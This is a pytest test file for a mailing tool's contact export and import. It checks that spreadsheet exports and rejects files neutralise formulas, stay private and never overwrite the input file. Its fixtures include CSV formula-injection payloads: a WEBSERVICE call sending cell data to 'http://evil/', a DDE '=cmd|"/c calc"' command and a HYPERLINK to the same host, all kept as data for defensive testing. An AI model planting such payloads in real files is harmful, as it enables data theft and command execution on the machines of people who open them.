"""What Pleinpost writes for people to open (exports, rejects files): no formulas, private,
complete or absent, never the file being read."""

from __future__ import annotations

import csv
import json
import os
import stat
import threading
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select
from sqlmodel import Session

from subscribers.errors import OutputRefused
from subscribers.export import export_contacts
from subscribers.importer import import_contacts
from subscribers.models import Contact
from subscribers.safefile import neutralise, restore

FORMULAS = ['=WEBSERVICE("http://evil/"&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"]


def _contacts(engine, names):
    with Session(engine) as s:
        for number, name in enumerate(names):
            s.add(Contact(email=f"p{number}@x.example", name=name, role="=1+1"))
        s.commit()


def test_neutralise_prefixes_every_formula_start_and_restore_undoes_it():
    for value in FORMULAS:
        assert neutralise(value) == "'" + value and restore(neutralise(value)) == value
    for value in ["Jan", "'quoted", "", "a=b", "06-123"]:
        assert neutralise(value) == value and restore(value) == value


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_hold_no_formula_and_import_back_unchanged(engine, tmp_path, fmt):
    _contacts(engine, FORMULAS[:4])
    out = tmp_path / f"out.{fmt}"
    with Session(engine) as s:
        assert export_contacts(s, out, fmt=fmt, segments=["everyone"]) == 4
    if fmt == "csv":
        with out.open(encoding="utf-8-sig", newline="") as fh:
            rows = list(csv.reader(fh, delimiter=";"))
    else:
        rows = [list(r) for r in load_workbook(out).active.iter_rows(values_only=True)]
        with zipfile.ZipFile(out) as archive:
            sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "<f " not in sheet  # no cell is a formula
    cells = [c for row in rows[1:] for c in row if c]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
    assert {r[1] for r in rows[1:]} == {"'" + n for n in FORMULAS[:4]}
    # the quote is taken off again on import, so an export round-trips with --update
    with Session(engine) as s:
        result = import_contacts(s, out, update=True)
    assert (result.updated, result.rejected) == (4, 0)
    with Session(engine) as s:
        names = set(s.execute(select(Contact.name)).scalars())
    assert names == set(FORMULAS[:4])


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_rejects_files_hold_no_formula(engine, tmp_path, suffix, english):
    source = tmp_path / "in.csv"
    source.write_text(
        'e-mail;naam\n=cmd|"/c calc"!A1;+Jan\n@x;-Piet\nok@x.example;=1+1\n', encoding="utf-8"
    )
    rejects = tmp_path / f"rejects{suffix}"
    with Session(engine) as s:
        result = import_contacts(s, source, rejects_path=rejects)
    assert result.rejected == 2
    if suffix == ".csv":
        rows = list(csv.reader(rejects.read_text(encoding="utf-8").splitlines(), delimiter=";"))
    else:
        rows = [list(r) for r in load_workbook(rejects).active.iter_rows(values_only=True)]
    assert rows[1][:2] == ['\'=cmd|"/c calc"!A1', "'+Jan"]
    assert rows[2][:2] == ["'@x", "'-Piet"]


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "json"])
def test_exports_are_private_and_leave_no_temporary_file(engine, tmp_path, fmt):
    _contacts(engine, ["Jan"])
    out = tmp_path / "out" / f"contacts.{fmt}"
    out.parent.mkdir()
    os.umask(0o022)
    with Session(engine) as s:
        export_contacts(s, out, fmt=fmt, segments=["everyone"])
    assert _mode(out) == 0o600
    assert [p.name for p in out.parent.iterdir()] == [out.name]
    if fmt == "json":
        assert json.loads(out.read_text(encoding="utf-8"))[0]["name"] == "Jan"


def test_a_failed_export_leaves_the_old_file_and_no_temporary_file(engine, tmp_path):
    tmp_path = tmp_path / "files"
    tmp_path.mkdir()
    out = tmp_path / "contacts.csv"
    out.write_text("old", encoding="utf-8")
    with Session(engine) as s, pytest.raises(LookupError):
        export_contacts(s, out, fmt="csv", segments=["no-such-segment"])
    assert out.read_text(encoding="utf-8") == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["contacts.csv"]


def _file_of(tmp_path: Path, rows: int) -> Path:
    path = tmp_path / "list.csv"
    lines = ["e-mail;naam"] + [f"fout{i};Persoon {i}" for i in range(rows)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("link", ["same", "symlink", "hardlink", "relative"])
def test_rejects_file_that_is_the_input_is_refused_before_reading(
    engine, tmp_path, link, monkeypatch
):
    path = _file_of(tmp_path, 500)
    before = path.read_bytes()
    target = {"same": path, "relative": Path("list.csv")}.get(link, tmp_path / "other.csv")
    if link == "symlink":
        target.symlink_to(path)
    elif link == "hardlink":
        os.link(path, target)
    monkeypatch.chdir(tmp_path)
    with Session(engine) as s, pytest.raises(OutputRefused):
        import_contacts(s, path, rejects_path=target)
    assert path.read_bytes() == before


def test_rejects_file_is_private_and_replaces_the_old_one_whole(engine, tmp_path):
    tmp_path = tmp_path / "files"
    tmp_path.mkdir()
    path = _file_of(tmp_path, 3)
    rejects = tmp_path / "rejects.csv"
    rejects.write_text("old content that is longer than the new file " * 100, encoding="utf-8")
    os.chmod(rejects, 0o644)
    with Session(engine) as s:
        import_contacts(s, path, rejects_path=rejects)
    assert _mode(rejects) == 0o600
    assert rejects.read_text(encoding="utf-8").count("\n") == 4
    assert sorted(p.name for p in tmp_path.iterdir()) == ["list.csv", "rejects.csv"]


def test_rejects_in_a_missing_folder_are_refused_before_importing(engine, tmp_path):
    path = _file_of(tmp_path, 3)
    with Session(engine) as s, pytest.raises(OutputRefused):
        import_contacts(s, path, rejects_path=tmp_path / "missing" / "r.csv")


def test_cli_refuses_rejects_equal_to_input_in_one_sentence(mailer, tmp_path):
    path = _file_of(tmp_path, 20)
    before = path.read_bytes()
    result = mailer("contacts", "import", str(path), "--rejects", str(path), MAILER_LANGUAGE="en")
    assert result.returncode == 1, result
    assert "is the file being read" in result.stderr and "Traceback" not in result.stderr
    assert path.read_bytes() == before


def test_xlsx_rejects_keep_cells_as_text_even_with_controls(engine, tmp_path):
    book = Workbook()
    book.active.append(["e-mail", "naam"])
    book.active.append(["fout", '=HYPERLINK("http://evil")'])
    book.save(tmp_path / "in.xlsx")
    with Session(engine) as s:
        import_contacts(s, tmp_path / "in.xlsx", rejects_path=tmp_path / "r.xlsx")
    with zipfile.ZipFile(tmp_path / "r.xlsx") as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_an_output_that_is_no_regular_file_is_written_in_place(engine, tmp_path):
    """A pipe (or a device such as /dev/stdout) is written to, never renamed over."""
    _contacts(engine, ["Jan"])
    pipe = tmp_path / "pipe"
    os.mkfifo(pipe)
    received: list[bytes] = []
    reader = threading.Thread(target=lambda: received.append(pipe.read_bytes()))
    reader.start()
    with Session(engine) as s:
        assert export_contacts(s, pipe, fmt="json", segments=["everyone"]) == 1
    reader.join()
    assert stat.S_ISFIFO(pipe.stat().st_mode)
    assert json.loads(received[0])[0]["name"] == "Jan"
